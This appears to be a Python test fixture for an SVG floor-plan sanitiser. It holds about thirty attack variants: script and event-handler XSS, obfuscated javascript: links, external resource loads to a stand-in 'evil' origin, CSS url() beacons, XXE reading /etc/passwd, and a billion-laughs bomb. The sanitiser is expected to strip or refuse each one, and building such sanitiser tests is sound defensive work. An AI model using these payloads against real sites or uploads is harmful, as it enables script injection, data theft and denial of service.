"""Floor plans that try to reach the page that shows them: each is the demo's plan with one
attack added, aimed at EVIL (an origin the tests listen on; format the plan with evil=URL). The
script payloads leave a trace a test can see whether or not dialogs are allowed: an alert, a
global, and a navigation to EVIL/ran."""

from __future__ import annotations

from dataclasses import dataclass

from tests.conftest import DEMO_CONFIG

DEMO_PLAN = (DEMO_CONFIG / "hall-map.svg").read_text(encoding="utf-8")
XHTML = 'xmlns:html="http://www.w3.org/1999/xhtml"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
RUN = "alert(1);window.pwned=1;location='{evil}/ran'"
# Over the whole plan, last drawn: a click or hover anywhere on the plan lands on it.
BAIT = 'x="0" y="0" width="1000" height="640" fill="#000" fill-opacity="0.01"'


@dataclass(frozen=True)
class Attack:
    name: str
    added: str  # put before </svg> (or replacing <svg with it, when it starts with <svg)
    left_out: tuple[str, ...] = ()  # what the sanitiser must name as removed
    refused: bool = False  # no drawing at all: the upload is refused

    def plan(self, evil: str) -> str:
        added = self.added.replace("{evil}", evil).replace("{run}", RUN.replace("{evil}", evil))
        if added.startswith("<svg"):
            return DEMO_PLAN.replace("<svg", added, 1)
        if added.startswith("<!") and "ENTITY" in added:  # a DOCTYPE, and the entity it declares used
            return added + DEMO_PLAN.replace("<title", "<title>&xx;</title><title", 1)
        if added.startswith("<!"):
            return added + DEMO_PLAN.replace("<rect", f'<rect id="bait" {BAIT}/><rect', 1)
        if added.startswith("<?"):
            return added + DEMO_PLAN
        return DEMO_PLAN.replace("</svg>", added + "</svg>")


ATTACKS = [
    Attack("script", "<script>{run}</script>", ("<script>",)),
    Attack("script-cdata", "<script><![CDATA[{run}]]></script>", ("<script>",)),
    Attack("script-src", '<script href="{evil}/x.js"/>', ("<script>",)),
    Attack(
        "script-prefixed", '<s:script xmlns:s="http://www.w3.org/2000/svg">{run}</s:script>', ("<script>",)
    ),
    Attack("svg-onload", '<svg onload="{run}" ', ("<svg onload>",)),
    Attack(
        "event-handlers",
        f'<rect id="bait" {BAIT} onclick="{{run}}" onmouseover="{{run}}" OnMouseMove="{{run}}"/>',
        ("<rect onclick>", "<rect onmouseover>", "<rect OnMouseMove>"),
    ),
    Attack(
        "style-element",
        "<style>@import url({evil}/import.css); :root, body, .bar { background: red !important; }"
        " .take, button { display: none !important; } rect { fill: url({evil}/fill.svg#p); }</style>",
        ("<style>",),
    ),
    Attack(
        "foreign-object",
        '<foreignObject width="1000" height="640"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<img src="{evil}/fo.png"/><iframe src="{evil}/frame"></iframe><script>{run}</script>'
        "</body></foreignObject>",
        ("<foreignObject>",),
    ),
    Attack("xhtml-base", f'<html:base {XHTML} href="{{evil}}/"/>', ("<html:base>",)),
    Attack(
        "xhtml-meta-refresh",
        f'<html:meta {XHTML} http-equiv="refresh" content="0;url={{evil}}/refresh"/>',
        ("<html:meta>",),
    ),
    Attack(
        "xhtml-link-stylesheet",
        f'<html:link {XHTML} rel="stylesheet" href="{{evil}}/link.css"/>',
        ("<html:link>",),
    ),
    Attack(
        "xhtml-script-iframe",
        f'<html:script {XHTML}>{{run}}</html:script><html:iframe {XHTML} src="{{evil}}/iframe"/>',
        ("<html:script>", "<html:iframe>"),
    ),
    Attack(
        "use-external",
        f'<use {XLINK} href="{{evil}}/sprite.svg#window-1"/><use {XLINK} xlink:href="{{evil}}/x.svg#a"/>'
        '<use href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 id=%22a%22%3E'
        '%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E#a"/>',
        ("<use href>", "<use xlink:href>"),
    ),
    Attack(
        "image-iframe-embed-object",
        '<image href="{evil}/image.png" width="10" height="10"/><iframe src="{evil}/svg-iframe"/>'
        '<embed src="{evil}/embed"/><object data="{evil}/object"/>',
        ("<image>", "<iframe>", "<embed>", "<object>"),
    ),
    Attack(
        "set-href",
        f'<a id="bait-link"><rect id="bait" {BAIT}/><set attributeName="href" to="javascript:{{run}}"/></a>',
        ("<set>",),
    ),
    Attack(
        "animate-href",
        f'<a {XLINK} xlink:href="#window-1"><rect id="bait" {BAIT}/>'
        '<animate attributeName="xlink:href" values="javascript:{run}" dur="1s" fill="freeze"/>'
        '<animateTransform attributeName="transform" type="scale" from="1" to="9" dur="1s"/></a>',
        ("<animate>", "<animateTransform>", "<a xlink:href>"),
    ),
    Attack(
        "javascript-tab",
        f'<a href="java&#9;script:{{run}}"><rect id="bait" {BAIT}/></a>',
        ("<a href>",),
    ),
    Attack(
        "javascript-mixed-case",
        f'<a href="JaVaScRiPt:{{run}}"><rect id="bait" {BAIT}/></a>',
        ("<a href>",),
    ),
    Attack(
        "javascript-entity",
        f'<a href="&#x6A;avascript:{{run}}"><rect id="bait" {BAIT}/></a>',
        ("<a href>",),
    ),
    Attack(
        "javascript-whitespace",
        f'<a {XLINK} xlink:href=" &#10; javascript:{{run}}"><rect id="bait" {BAIT}/></a>',
        ("<a xlink:href>",),
    ),
    Attack(
        "data-url-link",
        f'<a href="data:text/html,&lt;script&gt;{{run}}&lt;/script&gt;"><rect id="bait" {BAIT}/></a>',
        ("<a href>",),
    ),
    Attack(
        "style-attribute",
        '<rect x="1" y="1" width="9" height="9" style="fill:url({evil}/fill.svg#p);'
        " background:url({evil}/bg.png); behavior:url({evil}/x.htc); stroke:u\\72l({evil}/esc.svg#e);"
        ' fill-opacity:image-set(&quot;{evil}/set.png&quot; 1x); stroke-width:2"/>',
        (
            '<rect style="fill">',
            '<rect style="background">',
            '<rect style="behavior">',
            '<rect style="stroke">',
        ),
    ),
    Attack(
        "presentation-url",
        '<rect x="1" y="1" width="9" height="9" fill="url({evil}/fill.svg#p)" filter="url(\'{evil}/f.svg#f\')"'
        ' mask="url( {evil}/m.svg#m )" clip-path="url(data:image/svg+xml,x#c)"/>',
        ("<rect fill>", "<rect filter>", "<rect mask>", "<rect clip-path>"),
    ),
    Attack(
        "fe-image",
        '<filter id="f"><feImage href="{evil}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
        ("<feImage>",),
    ),
    Attack(
        "stylesheet-pi", '<?xml-stylesheet type="text/css" href="{evil}/pi.css"?>', ("<?xml-stylesheet?>",)
    ),
    Attack(
        "dtd-default-attribute",
        '<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "{run}"><!ATTLIST svg onload CDATA "{run}">]>',
        ("<rect onclick>", "<svg onload>"),
    ),
    Attack(
        "billion-laughs",
        '<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY xx "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
        refused=True,
    ),
    Attack("external-entity-file", '<!DOCTYPE svg [<!ENTITY xx SYSTEM "file:///etc/passwd">]>', refused=True),
    Attack("external-entity-url", '<!DOCTYPE svg [<!ENTITY xx SYSTEM "{evil}/xxe">]>', refused=True),
    Attack(
        "external-dtd-parameter-entity",
        '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "{evil}/dtd"> %remote; <!ENTITY xx "x">]>',
        refused=True,
    ),
]
